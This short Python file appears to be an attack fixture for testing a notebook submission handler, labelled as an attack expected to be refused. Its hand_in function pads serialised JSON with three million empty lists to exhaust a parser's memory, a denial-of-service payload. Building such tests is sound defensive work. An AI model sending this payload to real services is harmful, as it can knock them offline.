# /// attack
# refused = "values"
# ///
"""Be small as a file and large as objects."""

import json


def hand_in(notebook, folder):
    return (json.dumps(notebook)[:-1] + ', "many": [' + "[]," * 3_000_000 + "0]}").encode()
